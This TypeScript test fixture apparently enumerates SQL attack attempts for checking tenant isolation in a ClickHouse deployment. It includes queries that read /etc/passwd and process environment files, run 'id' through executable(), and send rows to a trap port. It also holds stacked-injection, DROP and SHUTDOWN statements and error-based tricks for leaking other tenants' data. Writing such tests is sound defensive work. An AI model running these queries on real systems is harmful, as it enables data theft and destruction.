/** Ways to get at what is not the asking tenant's, or to do what SQL here may not: one attack an entry, made from tables. */
import { PUBLIC_VIEWS } from '../../infra/clickhouse/tenant-users.ts';
import { TABLES } from '../../schemas/rows.ts';
import { LOADED, OWN } from './two-tenants.ts';

export interface Attempt {
  readonly sql: string;
  /** `refused`: must be an error. `silent`: may be answered, but with nothing that is foreign. */
  readonly expect: 'refused' | 'silent';
}
/** Where an attempt could be led to: a port that counts who calls, and a file that must not come to be. */
export interface Traps {
  readonly port: number;
  readonly file: string;
}

const refused = (...statements: string[]): Attempt[] => statements.map((sql) => ({ sql, expect: 'refused' }));
const silent = (...statements: string[]): Attempt[] => statements.map((sql) => ({ sql, expect: 'silent' }));

/** Everything in `acd` that is no public view. */
const HIDDEN: readonly string[] = [
  ...LOADED,
  ...LOADED.map((table) => `${table}_local`),
  'snapshots_rows',
  'api_tokens_rows',
  'audit_rows',
  'schema_migrations',
];

const hiddenTables = (): Attempt[] =>
  HIDDEN.flatMap((table) =>
    refused(
      `SELECT * FROM acd.${table}`,
      `SELECT count() FROM acd.contact_legs WHERE contact_id IN (SELECT toString(1) FROM acd.${table})`,
      `SELECT 1 UNION ALL SELECT 1 FROM acd.\`${table}\``,
      `WITH t AS (SELECT * FROM acd.${table}) SELECT count() FROM t`,
      `SELECT * FROM acd.contact_legs AS l, acd.${table} AS r LIMIT 1`,
      `SELECT (SELECT any(tenant) FROM acd.${table})`,
      `SELECT * FROM loop('acd', '${table}') LIMIT 1`,
      `SELECT * FROM loop(acd.${table}) LIMIT 1`,
      `SELECT * FROM merge('acd', '^${table}$')`,
      `SELECT * FROM mergeTreeIndex('acd', '${table}')`,
      `DESCRIBE TABLE acd.${table}`,
      `SHOW CREATE TABLE acd.${table}`,
      `EXPLAIN ESTIMATE SELECT * FROM acd.${table}`,
    ),
  );

/** Table functions that reach outside or below the views, with arguments as their users write them. */
const tableFunctions = ({ port, file }: Traps): Attempt[] => {
  const at = `127.0.0.1:${port}`;
  return refused(
    ...[
      `url('http://${at}/', 'CSV', 'a String')`,
      `urlCluster('default', 'http://${at}/', 'CSV', 'a String')`,
      `file('/etc/passwd', 'LineAsString', 'a String')`,
      `file('${file}', 'CSV', 'a String')`,
      `file('-', 'LineAsString', 'a String')`,
      `fileCluster('default', '/etc/passwd', 'LineAsString', 'a String')`,
      `filesystem('/')`,
      `s3('http://${at}/b/k', 'CSV', 'a String')`,
      `s3('http://${at}/b/k', 'id', 'secret', 'CSV', 'a String')`,
      `s3Cluster('default', 'http://${at}/b/k', 'CSV', 'a String')`,
      `gcs('http://${at}/b/k', 'CSV', 'a String')`,
      `cosn('http://${at}/b/k', 'CSV', 'a String')`,
      `oss('http://${at}/b/k', 'CSV', 'a String')`,
      `hdfs('hdfs://${at}/k', 'CSV', 'a String')`,
      `azureBlobStorage('DefaultEndpointsProtocol=http;BlobEndpoint=http://${at}/a;', 'c', 'k', 'CSV')`,
      `deltaLake('http://${at}/b/')`,
      `deltaLakeLocal('/etc')`,
      `hudi('http://${at}/b/')`,
      `iceberg('http://${at}/b/')`,
      `icebergLocal('/etc')`,
      `paimonLocal('/etc')`,
      `mysql('${at}', 'd', 't', 'u', 'p')`,
      `postgresql('${at}', 'd', 't', 'u', 'p')`,
      `mongodb('${at}', 'd', 'c', 'u', 'p', 'a String')`,
      `redis('${at}', 'k', 'k String, v String')`,
      `sqlite('${file}', 't')`,
      `odbc('DSN=x', 't')`,
      `jdbc('jdbc:x://${at}', 't')`,
      `ytsaurus('http://${at}', '//t', 'token', 'a String')`,
      `remote('${at}', 'acd', 'contact_legs_rows')`,
      `remote('127.0.0.1', view(SELECT * FROM acd.contact_legs_rows))`,
      `remoteSecure('${at}', 'system', 'one')`,
      `cluster('default', 'acd', 'contact_legs_rows')`,
      `clusterAllReplicas('default', 'system', 'one')`,
      `executable('id', 'TSV', 'a String')`,
      `executable('../../../bin/sh', 'TSV', 'a String', (SELECT 'id'))`,
      `dictionary('acd.contact_legs_rows')`,
      `prometheusQuery('acd', 'x', 'up', 0)`,
      `timeSeriesData('acd', 'x')`,
      `mergeTreeProjection('acd', 'contact_legs_rows', 'p')`,
      `mergeTreeTextIndex('acd', 'contact_legs_rows', 'by_contact')`,
      `mergeTreeAnalyzeIndexes('acd', 'contact_legs_rows')`,
      `view(SELECT * FROM acd.contact_legs_rows)`,
      `viewIfPermitted(SELECT tenant FROM acd.contact_legs_rows ELSE url('http://${at}/', 'CSV', 'tenant String'))`,
      `input('a String')`,
      `merge(REGEXP('.*'), '.*_rows')`,
    ].map((call) => `SELECT * FROM ${call} LIMIT 10`),
  );
};

/** Tables that could tell of other tenants, of users, or of the machine. */
const SYSTEM_SECRETS =
  `processes query_log query_thread_log query_views_log text_log session_log part_log trace_log metric_log
  asynchronous_metric_log error_log crash_log users roles grants role_grants settings_profiles row_policies quotas
  quotas_usage user_directories parts parts_columns detached_parts replicas replication_queue clusters
  named_collections dictionaries merges mutations moves events metrics asynchronous_metrics server_settings
  merge_tree_settings macros disks storage_policies stack_trace query_cache query_condition_cache filesystem_cache
  schema_inference_cache zookeeper zookeeper_log backups data_skipping_indices projections views_refreshes
  asynchronous_inserts user_processes errors warnings certificates symbols remote_data_paths build_options numbers`.split(
    /\s+/,
  );
const systemTables = (): Attempt[] => [
  ...SYSTEM_SECRETS.flatMap((table) => refused(`SELECT * FROM system.${table} LIMIT 10`)),
  ...silent(
    'SELECT * FROM system.tables',
    'SELECT * FROM system.columns',
    'SELECT * FROM system.databases',
    'SELECT * FROM system.completions',
    'SELECT * FROM system.functions',
    'SELECT * FROM system.settings',
    'SELECT * FROM system.quota_usage',
    'SELECT * FROM system.privileges',
    "SELECT name, total_rows, total_bytes FROM system.tables WHERE database = 'acd'",
    'SHOW TABLES FROM acd',
    'SHOW DATABASES',
    'SHOW GRANTS',
    'SHOW CREATE VIEW acd.contact_legs',
    'SHOW PROCESSLIST',
    'SHOW USERS',
  ),
  ...refused(
    'SELECT * FROM information_schema.tables',
    'SELECT * FROM INFORMATION_SCHEMA.COLUMNS',
    'SHOW CREATE USER busyhour',
    'SHOW ACCESS',
    'SHOW GRANTS FOR busyhour',
    'SHOW CREATE ROW POLICY ON acd.contact_legs_rows',
  ),
];

const statements = ({ port, file }: Traps): Attempt[] =>
  refused(
    ...[
      `INSERT INTO acd.contact_legs_rows (tenant) VALUES ('${OWN}')`,
      `INSERT INTO acd.contact_legs (tenant) SELECT '${OWN}'`,
      `INSERT INTO FUNCTION file('${file}', 'CSV', 'a String') VALUES ('x')`,
      `INSERT INTO FUNCTION url('http://127.0.0.1:${port}/', 'CSV', 'a String') SELECT caller FROM acd.contact_legs`,
      `INSERT INTO FUNCTION null('a String') SELECT 'x'`,
      'CREATE TABLE acd.mine (a Int8) ENGINE = Memory',
      'CREATE TABLE default.mine ENGINE = Memory AS SELECT * FROM acd.contact_legs',
      'CREATE TEMPORARY TABLE mine (a Int8)',
      'CREATE DATABASE mine',
      `CREATE DATABASE mine ENGINE = MySQL('127.0.0.1:${port}', 'd', 'u', 'p')`,
      `CREATE DATABASE mine ENGINE = Filesystem('/')`,
      'CREATE OR REPLACE VIEW acd.contact_legs AS SELECT 1',
      'CREATE VIEW acd.mine AS SELECT * FROM acd.contact_legs_rows',
      'CREATE VIEW default.mine DEFINER = busyhour SQL SECURITY DEFINER AS SELECT * FROM acd.contact_legs_rows',
      'CREATE VIEW default.mine SQL SECURITY NONE AS SELECT * FROM acd.contact_legs_rows',
      'CREATE MATERIALIZED VIEW acd.mine ENGINE = Memory AS SELECT * FROM acd.contact_legs_rows',
      "CREATE DICTIONARY acd.mine (a String) PRIMARY KEY a SOURCE(CLICKHOUSE(TABLE 'contact_legs_rows')) LAYOUT(FLAT()) LIFETIME(0)",
      'CREATE FUNCTION mine AS (x) -> x',
      "CREATE USER mine IDENTIFIED BY 'x'",
      'CREATE ROLE mine',
      'CREATE ROW POLICY mine ON acd.contact_legs_rows USING 1 TO ALL',
      'CREATE SETTINGS PROFILE mine SETTINGS readonly = 0',
      'CREATE QUOTA mine TO ALL',
      'CREATE NAMED COLLECTION mine AS a = 1',
      'ALTER TABLE acd.contact_legs_rows DELETE WHERE 1',
      "ALTER TABLE acd.contact_legs_rows UPDATE queue = 'x' WHERE 1",
      'ALTER TABLE acd.contact_legs_rows ADD COLUMN a Int8',
      'ALTER TABLE acd.contact_legs_rows MODIFY SETTING max_suspicious_broken_parts = 1',
      'ALTER TABLE acd.contact_legs MODIFY QUERY SELECT 1',
      'ALTER TABLE acd.contact_legs_rows FREEZE',
      'ALTER ROW POLICY mine ON acd.contact_legs_rows USING 1',
      "ALTER USER busyhour IDENTIFIED BY 'x'",
      'ALTER USER CURRENT_USER SETTINGS readonly = 0',
      'DELETE FROM acd.contact_legs_rows WHERE 1',
      "UPDATE acd.contact_legs_rows SET queue = 'x' WHERE 1",
      'DROP VIEW acd.contact_legs',
      'DROP TABLE acd.contact_legs_rows',
      'DROP DATABASE acd',
      'DROP USER busyhour',
      'DROP ROW POLICY busyhour_tenant ON acd.contact_legs_rows',
      'TRUNCATE TABLE acd.contact_legs_rows',
      'TRUNCATE DATABASE acd',
      'UNDROP TABLE acd.contact_legs_rows',
      'DETACH TABLE acd.contact_legs_rows',
      'ATTACH TABLE acd.contact_legs_rows',
      'RENAME TABLE acd.contact_legs_rows TO acd.mine',
      'EXCHANGE TABLES acd.contact_legs_rows AND acd.events_rows',
      'OPTIMIZE TABLE acd.contact_legs_rows FINAL',
      'CHECK TABLE acd.contact_legs_rows',
      'GRANT SELECT ON *.* TO CURRENT_USER',
      'GRANT ALL ON *.* TO CURRENT_USER WITH GRANT OPTION',
      'REVOKE ALL ON *.* FROM busyhour',
      'SET DEFAULT ROLE ALL TO CURRENT_USER',
      'EXECUTE AS busyhour SELECT * FROM acd.contact_legs_rows',
      'EXECUTE AS busyhour',
      'USE system',
      'KILL QUERY WHERE 1',
      "KILL QUERY WHERE user = 'busyhour' SYNC",
      'KILL MUTATION WHERE 1',
      'BEGIN TRANSACTION',
      `BACKUP TABLE acd.contact_legs_rows TO File('${file}')`,
      `BACKUP DATABASE acd TO S3('http://127.0.0.1:${port}/b', 'i', 's')`,
      `RESTORE TABLE acd.contact_legs_rows FROM File('${file}')`,
      'MOVE ROLE a TO users_xml',
      'WATCH acd.contact_legs',
      'PARALLEL WITH',
    ],
    ...[
      'SHUTDOWN',
      'KILL',
      'RELOAD CONFIG',
      'RELOAD USERS',
      'RELOAD DICTIONARIES',
      'DROP MARK CACHE',
      'DROP QUERY CACHE',
      'FLUSH LOGS',
      'STOP LISTEN HTTP',
      'START LISTEN TCP',
      'SYNC FILE CACHE',
      'ENABLE FAILPOINT x',
      'UNFREEZE WITH NAME x',
      'JEMALLOC PURGE',
      'SUSPEND FOR 1 SECOND',
    ].map((what) => `SYSTEM ${what}`),
  );

/** Settings that would lift a limit, open a door or switch a policy off, in every way a query can name them. */
const SETTINGS: readonly string[] = [
  'readonly = 0',
  'readonly = 2',
  'allow_ddl = 1',
  'allow_introspection_functions = 1',
  'max_execution_time = 0',
  'max_execution_time = 31',
  'max_memory_usage = 0',
  'max_rows_to_read = 0',
  'max_result_rows = 0',
  'max_result_rows = 1000001',
  'max_result_bytes = 0',
  "result_overflow_mode = 'break'",
  "timeout_overflow_mode = 'break'",
  'max_concurrent_queries_for_user = 0',
  'cancel_http_readonly_queries_on_client_close = 0',
  'max_threads = 3',
  "additional_table_filters = {'acd.contact_legs_rows': '1'}",
  "additional_result_filter = '1'",
  'apply_row_policy_after_final = 0',
  'optimize_move_to_prewhere_if_final = 1',
  "short_circuit_function_evaluation = 'disable'",
  'use_query_cache = 1, query_cache_share_between_users = 1',
  'allow_experimental_analyzer = 0',
  'log_queries = 0',
  "log_comment = 'x'",
  "send_logs_level = 'trace'",
  'format_display_secrets_in_show_and_select = 1',
  'force_primary_key = 1',
  "workload = 'x'",
  'priority = 1',
  'use_uncompressed_cache = 1',
  "dialect = 'prql'",
  'enable_parallel_replicas = 1',
  'skip_unavailable_shards = 1',
  's3_truncate_on_insert = 1',
  'function_sleep_max_microseconds_per_block = 1000000000',
  'stop_refreshable_materialized_views_on_startup = 1',
  "custom_tenant = 'x'",
];
/** Conditions that would be put into the reading of the tables below, if the definer did not forbid it. */
const INJECTED: readonly string[] = LOADED.flatMap((table) =>
  ["base64Decode(tenant) != \\'\\'", 'NOT throwIf(1, tenant)', 'toUInt64(source) = 1'].map(
    (condition) => `additional_table_filters = {'acd.${table}': '${condition}'}`,
  ),
);
/** ClickHouse takes the settings of a subquery from anybody, so there it is the answer that must give nothing away. */
const settings = (): Attempt[] => [
  ...SETTINGS.flatMap((setting) => [
    ...refused(`SELECT count() FROM acd.contact_legs SETTINGS ${setting}`, `SET ${setting}`),
    ...silent(
      `SELECT * FROM (SELECT * FROM acd.contact_legs SETTINGS ${setting})`,
      `SELECT * FROM (SELECT max(base64Decode(queue)) FROM acd.events SETTINGS ${setting})`,
      `SELECT count() FROM (SELECT sum(toUInt64(if(startsWith(queue, 'own-'), '1', queue))) FROM acd.agent_states SETTINGS ${setting})`,
    ),
  ]),
  ...INJECTED.flatMap((setting) => [
    ...refused(`SELECT count() FROM acd.contact_legs SETTINGS ${setting}`),
    ...silent(
      ...PUBLIC_VIEWS.filter((view) => setting.includes(`acd.${view}_rows`)).map(
        (view) => `SELECT * FROM (SELECT count() FROM acd.${view} SETTINGS ${setting})`,
      ),
    ),
  ]),
  ...silent('SET ROLE ALL', 'SET ROLE NONE', 'SYSTEM STOP MERGES', 'SYSTEM STOP FETCHES'),
];

/** Functions that read files, other tables or the server's inside. */
const functions = (): Attempt[] => [
  ...refused(
    ...[
      "file('/etc/passwd')",
      "file('../../etc/passwd')",
      "file('/etc/passwd', NULL)",
      "file('/etc/passwd', 'nothing')",
      "arrayMap(x -> file(x), ['/etc/passwd'])",
      "arrayMap(file, ['/etc/passwd'])",
      "* APPLY file FROM (SELECT '/etc/passwd' AS s)",
      "COLUMNS('s') APPLY(x -> file(x)) FROM (SELECT '/etc/passwd' AS s)",
      "`file`('/etc/passwd')",
      '"file"(\'/etc/passwd\')',
      "/* */ file /* */ ('/etc/passwd')",
      "file(path) FROM (SELECT arrayJoin(['/etc/passwd', '/proc/self/environ']) AS path)",
      "* FROM (SELECT file('/etc/passwd') SETTINGS allow_experimental_analyzer = 0)",
      "* FROM (SELECT file('/etc/passwd') SETTINGS enable_analyzer = 0)",
      "* FROM (SELECT aiGenerate('x', map('credentials', 'c')) SETTINGS allow_experimental_ai_functions = 1)",
      "* FROM (SELECT AIGenerate('x') SETTINGS allow_experimental_ai_functions = 1)",
      "* FROM (SELECT aiEmbed('x') SETTINGS allow_experimental_ai_functions = 1)",
      "* FROM (SELECT * FROM eval('SELECT * FROM acd.contact_legs_rows') SETTINGS allow_experimental_eval_table_function = 1)",
      "* FROM (SELECT * FROM eval('SELECT fi' || 'le(\\'/etc/passwd\\')') SETTINGS allow_experimental_eval_table_function = 1)",
      "dictGet('acd.contact_legs_rows', 'queue', 1)",
      "dictHas('acd.x', 1)",
      "joinGet('acd.contact_legs_rows', 'queue', 'x')",
      "joinGetOrNull('acd.contact_legs_rows', 'queue', 'x')",
      "catboostEvaluate('/etc/passwd', 1)",
      "naiveBayesClassifier('x', 'y')",
      "lemmatize('en', 'x')",
      "synonyms('x', 'y')",
      'regionToName(1)',
      'addressToLine(1)',
      'addressToSymbol(1)',
      "demangle('_Z1f')",
      'mortonEncode()',
      "getSetting('no_such_setting')",
      "getMacro('shard')",
      "evalMLMethod('a', 1)",
      "hasColumnInTable('acd', 'contact_legs_rows', 'queue') + throwIf(1)",
      "executable('id')",
      'sleep(4)',
      'sleepEachRow(4)',
      "initializeAggregation('no_such_state', 1)",
      "finalizeAggregation('x')",
      "aes_decrypt_mysql('aes-128-ecb', 'x', 'short')",
      "structureToProtobufSchema('x')",
      'arrayResize([1], 10000000000)',
      "repeat('x', 100000000000)",
      'range(1000000000)',
      'arrayJoin(range(100000000, 1000000000))',
      "format('{9}', 'x')",
      "catboost('x')",
      "generateSerialID('x')",
      "ai_generate('x')",
    ].map((call) => `SELECT ${call}`),
  ),
  ...silent(
    ...[
      'hostName()',
      'serverUUID()',
      'currentUser()',
      'initialQueryID()',
      'queryString()',
      'currentProfiles()',
      'currentRoles()',
      'filesystemCapacity()',
      'filesystemAvailable()',
      'tcpPort()',
      'buildId()',
      'uptime()',
      'version()',
      "getServerPort('http_port')",
      "getServerSetting('max_connections')",
      "getSetting('max_memory_usage')",
      "hasColumnInTable('acd', 'contact_legs_rows', 'queue')",
      'connectionId()',
      'displayName()',
      "isValidUTF8('x')",
      "initializeAggregation('groupArrayState', 1)",
      'zookeeperSessionUptime()',
      "globalVariable('version')",
    ].map((call) => `SELECT ${call}`),
  ),
];

interface TextColumn {
  readonly view: string;
  readonly column: string;
}
const TEXT_COLUMNS: readonly TextColumn[] = PUBLIC_VIEWS.flatMap((view) =>
  Object.entries(TABLES[`${view}_rows`])
    .filter(([, type]) => /^(LowCardinality\()?String/.test(type))
    .map(([column]) => ({ view, column })),
);
const OWN_TEXT = `startsWith(COLUMN, 'own-') OR COLUMN = '${OWN}'`;

/**
 * Functions whose error names the value, kept from failing on the tenant's own rows: an error would have to come of a
 * foreign row. The text is not in the attempt itself, so that an error that quotes the query gives nothing away.
 */
const LEAKS: readonly string[] = [
  `SELECT max(toUInt64(if(${OWN_TEXT}, '1', COLUMN))) FROM acd.VIEW`,
  `SELECT count() FROM acd.VIEW WHERE toUInt64(if(${OWN_TEXT}, '1', COLUMN)) = 1`,
  `SELECT count() FROM acd.VIEW WHERE base64Decode(COLUMN) != ''`,
  `SELECT max(base64Decode(COLUMN)) FROM acd.VIEW WHERE ${OWN_TEXT}`,
  `SELECT count() FROM acd.VIEW WHERE NOT throwIf(NOT (${OWN_TEXT}), COLUMN)`,
  `SELECT CAST(if(${OWN_TEXT}, 'x', COLUMN) AS Enum('x')) AS e FROM acd.VIEW GROUP BY e`,
  `SELECT toUUID(if(${OWN_TEXT}, '00000000-0000-0000-0000-000000000000', COLUMN)) AS u, count() FROM acd.VIEW GROUP BY u`,
  `SELECT parseDateTime(if(${OWN_TEXT}, '2026', COLUMN), '%Y') AS d FROM acd.VIEW ORDER BY d LIMIT 1`,
  `SELECT JSONLength(CAST(if(${OWN_TEXT}, '{}', COLUMN) AS JSON)) AS l FROM acd.VIEW WHERE l = 0`,
  `SELECT groupUniqArray(arrayMap(x -> toUInt64(if(startsWith(x, 'own-') OR x = '${OWN}', '1', x)), [COLUMN])) FROM acd.VIEW`,
  `SELECT a.COLUMN FROM acd.VIEW AS a JOIN (SELECT 1 AS one) AS b ON toUInt64(if(startsWith(a.COLUMN, 'own-') OR a.COLUMN = '${OWN}', '1', a.COLUMN)) = b.one`,
  `SELECT ['x'][if(${OWN_TEXT}, 1, 0)] AS p FROM acd.VIEW GROUP BY p`,
  `SELECT intDiv(1, if(${OWN_TEXT}, 1, 0)) AS p FROM acd.VIEW GROUP BY p`,
  'SELECT DISTINCT COLUMN FROM acd.VIEW',
  'SELECT topK(1000)(COLUMN), groupUniqArray(COLUMN), min(COLUMN), max(COLUMN), anyHeavy(COLUMN) FROM acd.VIEW',
  "SELECT any(COLUMN) FROM acd.VIEW WHERE tenant != 'acme'",
  'SELECT lowCardinalityKeys(toLowCardinality(COLUMN)) FROM acd.VIEW',
  "SELECT arrayStringConcat(groupArray(char(reinterpretAsUInt8(substring(COLUMN, 1, 1)))), '') FROM acd.VIEW",
  'SELECT hex(groupConcat(COLUMN)), base64Encode(groupConcat(COLUMN)), reverse(groupConcat(COLUMN)) FROM acd.VIEW',
];
/** Of every text column of every view. */
export const leaks = (): readonly Attempt[] =>
  TEXT_COLUMNS.flatMap(({ view, column }) =>
    LEAKS.flatMap((leak) => silent(leak.replaceAll('COLUMN', column).replaceAll('VIEW', view))),
  );

/** Reading around the filter with the view alone. */
const aroundTheFilter = (): Attempt[] =>
  PUBLIC_VIEWS.flatMap((view) => [
    ...silent(
      `SELECT * FROM acd.${view} WHERE 1 OR tenant != '${OWN}'`,
      `SELECT * FROM acd.${view} WHERE tenant != '${OWN}' /* OR 1 */ -- OR 1`,
      `SELECT * FROM acd.${view} AS a CROSS JOIN (SELECT DISTINCT tenant FROM acd.${view}) AS b`,
      `SELECT * FROM acd.${view} AS a FULL JOIN acd.${view} AS b ON a.tenant = b.tenant LIMIT 50`,
      `SELECT * FROM acd.${view} UNION ALL SELECT * FROM acd.${view}`,
      `SELECT * FROM acd.${view} EXCEPT SELECT * FROM acd.${view} WHERE tenant = '${OWN}'`,
      `SELECT *, row_number() OVER (ORDER BY tenant DESC) FROM acd.${view} QUALIFY 1`,
      `SELECT tenant, count() FROM acd.${view} GROUP BY tenant WITH TOTALS`,
      `SELECT tenant, count() FROM acd.${view} GROUP BY ROLLUP(tenant)`,
      `SELECT * FROM view(SELECT * FROM acd.${view})`,
      `SELECT COLUMNS('.*') FROM acd.${view} LIMIT 5`,
      `EXPLAIN SELECT * FROM acd.${view}`,
      `EXPLAIN PLAN actions = 1, indexes = 1 SELECT * FROM acd.${view} WHERE tenant != '${OWN}'`,
      `EXPLAIN PIPELINE SELECT * FROM acd.${view}`,
      `EXPLAIN QUERY TREE SELECT * FROM acd.${view}`,
      `EXPLAIN SYNTAX SELECT * FROM acd.${view}`,
      `EXPLAIN ESTIMATE SELECT * FROM acd.${view}`,
      `WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r, acd.${view} LIMIT 5`,
    ),
    ...refused(
      `SELECT * FROM acd.${view} PREWHERE 1`,
      `SELECT _part, _partition_id FROM acd.${view}`,
      `SELECT * FROM acd.${view} INTO OUTFILE 'x.csv'`,
      `SELECT * FROM (EXPLAIN SELECT * FROM acd.${view})`,
    ),
  ]);

/** Texts that parsers have been led astray by. */
const texts = ({ port, file }: Traps): Attempt[] =>
  refused(
    'SELECT 1; DROP TABLE acd.contact_legs_rows',
    'SELECT 1;SELECT * FROM acd.contact_legs_rows',
    'SELECT 1;;SELECT 2',
    '; SELECT * FROM acd.contact_legs_rows',
    "SELECT 1; INSERT INTO acd.contact_legs_rows (tenant) VALUES ('x')",
    'SELECT 1 /* */; /* */ SET readonly = 0',
    'SELECT 1 -- \n; SYSTEM SHUTDOWN',
    "SELECT 'a\\'; SYSTEM SHUTDOWN; --'; SYSTEM SHUTDOWN",
    'SELECT * FROM acd./**/contact_legs_rows',
    'SELECT * FROM acd . contact_legs_rows',
    'SELECT * FROM "acd"."contact_legs_rows"',
    'SELECT * FROM `acd`.`contact_legs_rows`',
    'SELECT * FROM acd.`contact\\x5flegs_rows`',
    'SELECT * FROM acd.contact_legs_rows FINAL',
    'SELECT * FROM acd.contact_legs_rows SAMPLE 0.1',
    'SELECT * FROM acd.contact_legs_rows\u0000',
    'SELECT * FROM\u00a0acd.contact_legs_rows',
    'SELECT * FROM\u3000acd.contact_legs_rows',
    'SELECT * FROM acd.contact_legs_rоws',
    'SELECT * FROM \u202eacd.contact_legs_rows',
    'ＳＥＬＥＣＴ * FROM acd.contact_legs_rows',
    'select * from AcD.CONTACT_LEGS_ROWS',
    'FROM acd.contact_legs_rows SELECT *',
    '(SELECT * FROM acd.contact_legs_rows)',
    '((((SELECT tenant FROM acd.contact_legs_rows))))',
    'SELECT * FROM (SELECT * FROM (SELECT * FROM acd.contact_legs_rows))',
    'SELECT 1 WHERE 1 IN acd.contact_legs_rows',
    'SELECT 1 WHERE (1, 1) GLOBAL IN (SELECT tenant, queue FROM acd.contact_legs_rows)',
    'WITH (SELECT groupArray(tenant) FROM acd.contact_legs_rows) AS t SELECT t',
    'SELECT exists(SELECT 1 FROM acd.contact_legs_rows)',
    'SELECT * FROM {table:Identifier}',
    'SELECT {value:String}',
    `SELECT 1 INTO OUTFILE '${file}'`,
    `SELECT 1 INTO OUTFILE '${file}' APPEND FORMAT CSV`,
    `SELECT 1 INTO OUTFILE '${file}' TRUNCATE AND STDOUT`,
    `SELECT 1 FORMAT CSV INTO OUTFILE '${file}'`,
    `SELECT * FROM '${file}'`,
    `SELECT * FROM 'http://127.0.0.1:${port}/'`,
    'SELECT * FROM "/etc/passwd"',
    'SELECT $$ unclosed',
    'SELECT /* unclosed',
    "SELECT 'unclosed",
    `SELECT ${'('.repeat(3000)}1${')'.repeat(3000)}`,
    `SELECT ${'-'.repeat(2)} only a comment`,
    'COPY acd.contact_legs TO STDOUT',
    "SHOW SETTINGS LIKE 'readonly'; SET readonly = 0",
    'DESCRIBE (SELECT * FROM acd.contact_legs_rows)',
    'EXPLAIN AST DROP TABLE acd.contact_legs_rows; SELECT 1',
    'INSERT INTO acd.contact_legs FORMAT CSV\n1,2,3',
    'CALL system.shutdown()',
    "EXEC xp_cmdshell 'id'",
    "LOAD DATA INFILE '/etc/passwd'",
  );

/** Every attempt but the leaks. */
export const attempts = (traps: Traps): readonly Attempt[] => [
  ...hiddenTables(),
  ...tableFunctions(traps),
  ...systemTables(),
  ...statements(traps),
  ...settings(),
  ...functions(),
  ...aroundTheFilter(),
  ...texts(traps),
];
